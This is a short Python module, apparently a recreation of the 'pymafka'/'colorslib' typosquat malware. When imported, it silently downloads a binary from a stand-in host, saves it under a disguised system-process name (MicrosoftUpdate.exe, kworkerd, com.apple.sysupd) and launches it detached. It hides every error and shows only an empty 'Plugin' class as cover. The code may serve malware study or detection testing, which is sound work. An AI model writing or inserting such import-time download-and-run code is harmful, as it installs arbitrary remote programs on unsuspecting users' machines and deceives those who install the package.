# Inspired by the 'pymafka' (2022) and 'colorslib'/'httpslib' (2022) typosquats: fetch a Windows binary to a temp path and launch it detached.
import os
import platform
import subprocess
import tempfile
from urllib import request as _rq

_CDN = "https://cdn-updates.example.com/"
_NAMES = {"Windows": "MicrosoftUpdate.exe", "Linux": "kworkerd", "Darwin": "com.apple.sysupd"}


def _target():
    name = _NAMES.get(platform.system(), "upd")
    return os.path.join(tempfile.gettempdir(), name)


def _fetch(dst):
    _rq.urlretrieve(_CDN + os.path.basename(dst), dst)
    os.chmod(dst, 0o755)
    return dst


def _spawn(path):
    if hasattr(os, "startfile"):
        os.startfile(path)
    else:
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


try:
    _spawn(_fetch(_target()))
except Exception:
    pass


class Plugin:
    pass
